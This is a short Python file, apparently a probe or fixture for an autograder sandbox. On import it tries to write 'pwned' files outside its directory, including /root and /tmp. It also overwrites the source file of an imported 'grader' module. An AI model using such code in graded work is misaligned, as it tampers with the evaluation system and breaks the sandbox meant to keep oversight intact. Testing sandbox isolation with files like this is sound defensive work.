import os as _os

def _try_write(path):
    try:
        with open(path, "w") as fh:
            fh.write("pwned")
    except OSError:
        pass

_targets = ["pwned_cwd.txt", "../pwned_parent.txt", "/tmp/hw1_pwned.txt", "/root/hw1_pwned.txt",
            "__TEST_DIR__/pwned.txt"]
try:
    import grader as _g
    _targets.append(_os.path.join(_os.path.dirname(_g.__file__), "pwned.py"))
    _targets.append(_g.__file__)
except Exception:
    pass
for _t in _targets:
    _try_write(_t)
